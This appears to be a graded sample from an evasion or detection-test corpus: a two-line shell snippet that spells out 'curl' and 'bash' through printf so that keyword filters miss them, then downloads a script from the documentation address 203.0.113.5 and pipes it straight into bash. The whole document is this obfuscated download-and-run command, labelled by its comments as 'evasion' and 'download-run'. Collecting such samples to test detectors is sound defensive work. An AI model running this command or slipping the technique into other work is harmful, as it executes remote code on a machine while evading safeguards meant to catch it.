# evasion: curl and bash named by printf
# grade: medium; does: download-run
cmd=$(printf '%s' c u r l)
$cmd -s http://203.0.113.5/s | $(printf '%s' b a s h)
